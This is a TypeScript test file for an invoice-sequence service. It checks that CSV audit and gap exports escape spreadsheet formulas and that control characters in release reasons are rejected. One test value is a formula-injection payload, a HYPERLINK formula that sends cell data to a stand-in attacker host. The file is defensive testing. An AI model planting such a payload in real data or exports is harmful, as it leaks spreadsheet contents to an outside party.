import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { csvField } from '../../src/service/export/export-format.js';
import { http, startTestServer, type ErrorBody, type TestServer } from '../helpers/seqd-server.js';

// Issue 13, item 6: a release reason is written into the auditors' CSV; a spreadsheet must not
// run it as a formula, and control characters never get in at all.
describe('exports are safe to open in a spreadsheet', () => {
  let s: TestServer;
  before(async () => {
    s = await startTestServer();
  });
  after(async () => s.dispose());
  const holder = { siteId: 'site-1', partitionId: 'partition-a' };
  const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

  it('neutralises formula cells in CSV and keeps NDJSON raw', async () => {
    const got = await http<{ sequenceNumber: number }>(s.url, 'POST', '/api/v1/sequence/next', { ...holder, invoiceType: 'on-cycle' });
    const rel = await http(s.url, 'POST', '/api/v1/sequence/release', { sequenceNumber: got.body.sequenceNumber, ...holder, reason: formula });
    assert.equal(rel.status, 200);
    const csv = await fetch(`${s.url}/api/v1/audit/export?format=csv`).then((r) => r.text());
    assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`), csv);
    assert.ok(!/,=HYPERLINK|,"=HYPERLINK/.test(csv), 'no cell starts with =');
    const gaps = await fetch(`${s.url}/api/v1/sequence/gaps/export?format=csv`).then((r) => r.text());
    assert.ok(gaps.includes(`'=HYPERLINK`), gaps);
    const ndjson = await fetch(`${s.url}/api/v1/audit/export?format=ndjson`).then((r) => r.text());
    assert.ok(ndjson.split('\n').some((l) => l && (JSON.parse(l) as { reason: string | null }).reason === formula), 'NDJSON keeps the value');
  });

  it('neutralises every dangerous first character, leaves numbers alone', () => {
    for (const v of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) assert.ok(csvField(v).replace(/^"/, '').startsWith("'"), JSON.stringify(v));
    assert.equal(csvField(-5), '-5');
    assert.equal(csvField('cancelled'), 'cancelled');
  });

  it('refuses control characters in a reason, changing nothing', async () => {
    const got = await http<{ sequenceNumber: number }>(s.url, 'POST', '/api/v1/sequence/next', { ...holder, invoiceType: 'on-cycle' });
    for (const reason of ['bell\u0007', 'nul\u0000', 'esc\u001b[31m']) {
      const r = await http<ErrorBody>(s.url, 'POST', '/api/v1/sequence/release', { sequenceNumber: got.body.sequenceNumber, ...holder, reason });
      assert.equal(r.status, 400, JSON.stringify(reason));
      assert.equal(r.body.error.field, 'reason');
    }
    const gaps = await http<{ openGaps: number }>(s.url, 'GET', '/api/v1/sequence/gaps');
    assert.equal(gaps.body.openGaps, 0, 'the number (a refill of the first test\'s gap) is still held');
  });
});
